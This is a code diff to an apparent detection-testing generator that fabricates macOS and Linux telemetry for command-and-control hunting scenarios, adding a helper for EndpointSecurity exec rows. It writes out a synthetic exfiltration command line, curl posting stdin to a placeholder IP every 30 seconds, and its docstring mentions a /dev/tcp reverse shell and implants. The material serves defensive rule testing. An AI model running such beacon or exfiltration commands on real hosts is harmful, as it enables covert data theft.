@@ -593,6 +593,16 @@ def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2
         ("time", int(when))]))
 
 
+def _es_exec(rec, host, when, pid, path, cmdline, parent, uid=501):
+    """An es_process_events exec row (macOS EndpointSecurity), the query joining the parent's
+    path from processes (``parent`` = (pid, path))."""
+    rec.osquery(host, when, "pack_c2hunt_es_process_events", collections.OrderedDict([
+        ("event_type", "exec"), ("pid", pid), ("path", path), ("cmdline", cmdline),
+        ("parent", parent[0]), ("parent_path", parent[1]), ("uid", uid),
+        ("signing_id", "com.apple." + path.rsplit("/", 1)[-1]), ("team_id", ""),
+        ("platform_binary", 1), ("time", int(when))]))
+
+
 @scenario
 def x5_osquery_raw_socks(rec, t0):
     """macOS and Linux via osquery (AN1256, AN1255's programs): an implant in /private/tmp
@@ -816,7 +826,8 @@ def x8_unix_scripted_app_c2(rec, t0):
     Python implant in /tmp polling its HTTPS listener on 8443 every minute and uploading
     archives (Sysmon for Linux through syslog, and the Zeek sensor's conn.log); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
     (auditd); on a Mac, an Automator application whose shell step runs curl against its
-    server every 30 s (osquery socket_events, and process_open_sockets with the parent)."""
+    server every 30 s (osquery es_process_events and socket_events, and process_open_sockets
+    with the parent)."""
     lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
     implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
                                        "python3 /tmp/.X11-cache/update.py", "www-data")
@@ -841,6 +852,9 @@ def x8_unix_scripted_app_c2(rec, t0):
     for beat in range(12):
         when = t0 + 40 + 30.0 * beat + rec.rng.uniform(-2, 2)
         pid = 8800 + 3 * beat
+        _es_exec(rec, mac, when - 0.05, pid, "/usr/bin/curl",
+                 "curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync",
+                 parent=(8790, stub))
         _socket_event(rec, mac, when, pid, "/usr/bin/curl", ("198.51.100.72", 443))
         if beat == 0:
             _open_socket(rec, mac, when + 0.2, pid, "/usr/bin/curl", 2, 6,
